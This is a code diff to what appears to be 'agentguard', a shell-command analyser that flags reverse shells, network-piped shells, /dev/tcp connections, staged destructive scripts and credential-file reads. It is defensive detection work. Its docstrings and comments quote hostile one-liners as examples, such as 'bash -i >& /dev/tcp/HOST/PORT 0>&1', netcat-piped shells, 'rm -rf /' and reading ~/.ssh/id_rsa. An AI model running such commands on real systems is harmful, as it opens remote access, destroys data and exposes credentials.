@@ -13,6 +13,7 @@ from tree_sitter import Node
 
 from agentguard.analysis import grammar, paths
 from agentguard.analysis.grammar import node_text as _text
+from agentguard.analysis.paths import DEV_SINKS
 from agentguard.analysis.stdout import stdout_of
 from agentguard.analysis.types import Stdin, Word
 from agentguard.models import Effect, Kind
@@ -20,14 +21,11 @@ from agentguard.models import Effect, Kind
 if TYPE_CHECKING:
     from agentguard.analysis.shell import Walker
 
-DEV_SINKS = frozenset(
-    ["/dev/null", "/dev/stdout", "/dev/stderr", "/dev/tty", "/dev/zero", "/dev/random", "/dev/urandom"]
-)
-
 
 def pipeline(walker: Walker, stages: list[Node], stdin: Stdin) -> None:
     current = stdin
     saved_cwd = walker.cwd
+    _piped_shell(walker, stages)
     for stage in stages:
         # Each stage of a pipeline runs in its own subshell: a `cd` there does not leak.
         walker.cwd = saved_cwd
@@ -36,20 +34,57 @@ def pipeline(walker: Walker, stages: list[Node], stdin: Stdin) -> None:
     walker.cwd = saved_cwd
 
 
+def _piped_shell(walker: Walker, stages: list[Node]) -> None:
+    """`nc HOST 4444 | sh | nc HOST 4445`, `cat fifo | sh -i 2>&1 | nc HOST 4444 > fifo`: a shell whose input or
+    output is a network connection in the same pipeline is driven from the other end."""
+    names = [n for s in stages for n in _stage_names(walker, s)]
+    from agentguard.analysis.dispatch import SHELLS
+    from agentguard.analysis.watch import CONNECTORS
+
+    if any(n in SHELLS for n in names) and any(n in CONNECTORS for n in names):
+        source = " | ".join(_text(s) for s in stages)
+        walker.effects.append(Effect.make(Kind.NETWORK_SHELL, "a network peer", "pipes a shell through a "
+                                          "network connection", source=source))  # fmt: skip
+
+
+def _stage_names(walker: Walker, stage: Node) -> list[str]:
+    """The command names of a pipeline stage (tree-sitter nests `a | b 2>&1 | c` as a pipeline in a stage)."""
+    node = stage.child_by_field_name("body") if stage.type == "redirected_statement" else stage
+    if node is not None and node.type == "pipeline":
+        return [n for s in node.named_children for n in _stage_names(walker, s)]
+    if node is None or node.type != "command":
+        return []
+    words = _command_words(node)
+    first = walker.expander().expand(words[0]) if words else None
+    return [first.text.rsplit("/", 1)[-1]] if first is not None and first.known else []
+
+
 def redirected_statement(walker: Walker, node: Node, stdin: Stdin) -> None:
     body = node.child_by_field_name("body")
     redirects = [c for c in node.children if c.type.endswith("_redirect")]
+    stray = _stray_arguments(redirects)
     piped = [c for r in redirects for c in r.named_children if c.type == "pipeline"]
     if body is not None and body.type == "list" and not piped:
         # tree-sitter hangs `a && b < f` on the whole list; bash gives the redirect to b alone, after a ran.
         *first, last = body.named_children
         for child in first:
             walker.visit(child, stdin)
-        walker.visit(last, stdin_from(walker, redirects) or stdin)
+        last_stdin = stdin_from(walker, redirects) or stdin  # before: a heredoc's $(…) runs commands of its own
+        if last.type == "command":
+            _staged_scripts(walker, last, redirects, last_stdin, _text(node))
+        walker.stray_arguments = stray if last.type == "command" else []
+        walker.visit(last, last_stdin)
         for redirect in redirects:
             redirect_effects(walker, redirect, _text(node))
         return
+    wire = _reverse_shell(walker, node, redirects)
+    if wire is not None:
+        walker.effects.append(_connection(wire, _text(node), shell=True))
+        return
     own_stdin = stdin_from(walker, redirects) or stdin
+    walker.stray_arguments = stray if body is not None and body.type == "command" else []
+    if body is not None and body.type == "command":
+        _staged_scripts(walker, body, redirects, own_stdin, _text(node))
     if body is not None:
         if piped:  # `cat <<EOF | bash`: tree-sitter hangs the pipeline under the heredoc
             stages = [body] + [c for p in piped for c in p.named_children]
@@ -58,6 +93,30 @@ def redirected_statement(walker: Walker, node: Node, stdin: Stdin) -> None:
             walker.visit(body, own_stdin)
     for redirect in redirects:
         redirect_effects(walker, redirect, _text(node))
+
+
+def _staged_scripts(walker: Walker, body: Node, redirects: list[Node], stdin: Stdin, source: str) -> None:
+    """`echo 'rm -rf /' > x.sh`: a script written with known text is judged by what it would do (staging.py)."""
+    targets = [r.child_by_field_name("destination") for r in redirects if r.type == "file_redirect"
+               and _operator(r) in (">", ">|", ">>", "&>", "&>>")]  # fmt: skip
+    words = [walker.expander().expand(c) for c in _command_words(body)]
+    inner = [c for c in body.children if c.type == "herestring_redirect"]  # `cat <<< 'TEXT' > x.sh`
+    stdin = stdin_from(walker, inner) or stdin if inner else stdin
+    for target in targets:
+        if target is not None and _text(target).strip("'\"").endswith(SCRIPT_HINTS):
+            from agentguard.analysis import staging
+
+            destination = walker.expander().expand(target)
+            walker.effects.extend(staging.check(walker, words, stdin, destination, source))
+
+
+SCRIPT_HINTS = (".sh", ".bash", ".zsh", ".ksh", ".command", "rc", ".profile")
+
+
+def _stray_arguments(redirects: list[Node]) -> list[Node]:
+    """tree-sitter-bash gives `cmd >out a b` one redirect with destinations out, a, b; bash redirects to `out`
+    and passes a and b to cmd. The words after the first destination are the command's."""
+    return [d for r in redirects if r.type == "file_redirect" for d in r.children_by_field_name("destination")[1:]]
 
 
 def stdin_from(walker: Walker, redirects: list[Node]) -> Stdin | None:
@@ -70,9 +129,20 @@ def stdin_from(walker: Walker, redirects: list[Node]) -> Stdin | None:
         if redirect.type == "file_redirect" and _operator(redirect) == "<":
             dest = redirect.child_by_field_name("destination")
             word = walker.expander().expand(dest) if dest is not None else Word("", False, "?")
+            if word.known and word.text.startswith(NET_DEVICES):  # `sh < /dev/tcp/HOST/PORT`: code off the wire
+                return Stdin("network", None, word.text)
+            _secret_input(walker, word, _text(redirect))
             text = walker.read_text(word.text, walker.cwd) if word.known else None
             return Stdin("file", text, word.text)
     return None
+
+
+def _secret_input(walker: Walker, word: Word, source: str) -> None:
+    """`python3 -m json.tool < ~/.ssh/id_rsa`: whatever reads it, the command reads a credential store."""
+    from agentguard.analysis.secrets import read_effects
+    from agentguard.analysis.types import Invocation
+
+    walker.effects.extend(read_effects([word], Invocation((), walker.cwd, source), "reads a credential store"))
 
 
 def _heredoc(walker: Walker, redirect: Node) -> Stdin:
@@ -92,6 +162,34 @@ def _heredoc(walker: Walker, redirect: Node) -> Stdin:
     return Stdin("literal", grammar.unshield(text.decode("utf-8", "replace")))
 
 
+NET_DEVICES = ("/dev/tcp/", "/dev/udp/")
+
+
+def _connection(path: str, source: str, *, shell: bool = False) -> Effect:
+    host = path.split("/")[3] if path.count("/") >= 3 else "?"
+    if shell:
+        return Effect.make(Kind.NETWORK_SHELL, host, "connects a shell to a network peer", source=source,
+                           context={"host": host})  # fmt: skip
+    return Effect.make(Kind.NETWORK_SEND, host, f"opens a connection to {path}", source=source,
+                       context={"host": host})  # fmt: skip
+
+
+def _reverse_shell(walker: Walker, node: Node, redirects: list[Node]) -> str | None:
+    """`bash -i >& /dev/tcp/HOST/PORT 0>&1`: a shell whose input or output is a network connection (its path)."""
+    body = node.child_by_field_name("body")
+    if body is None or body.type != "command":
+        return None
+    words = [walker.expander().expand(c) for c in _command_words(body)]
+    name = words[0].text.rsplit("/", 1)[-1] if words and words[0].known else ""
+    from agentguard.analysis.dispatch import SHELLS
+
+    if name not in SHELLS and name not in ("python", "python3", "perl", "ruby", "php", "nc", "telnet"):
+        return None
+    targets = [_text(c).strip("'\"") for r in redirects for c in r.named_children if c.type != "file_descriptor"]
+    wired = [walker.network_fds[t.lstrip("&")] for t in targets if t.lstrip("&") in walker.network_fds]
+    return next((t for t in targets if t.startswith(NET_DEVICES)), wired[0] if wired else None)
+
+
 def redirect_effects(walker: Walker, redirect: Node, source: str) -> None:
     if redirect.type != "file_redirect":
         return
@@ -103,6 +201,12 @@ def redirect_effects(walker: Walker, redirect: Node, source: str) -> None:
         return
     word = walker.expander().expand(dest)
     if word.known and (word.text in DEV_SINKS or word.text.startswith("/dev/fd/")):
+        return
+    if word.known and word.text.startswith(NET_DEVICES):  # bash opens a connection: `> /dev/tcp/HOST/PORT`
+        walker.effects.append(_connection(word.text, source))
+        descriptor = next((c for c in redirect.children if c.type == "file_descriptor"), None)
+        if descriptor is not None:  # `exec 5<>/dev/tcp/…`: later `<&5` / `>&5` use the connection
+            walker.network_fds[_text(descriptor)] = word.text
         return
     found = paths.resolve(word, walker.cwd)
     if found is None:
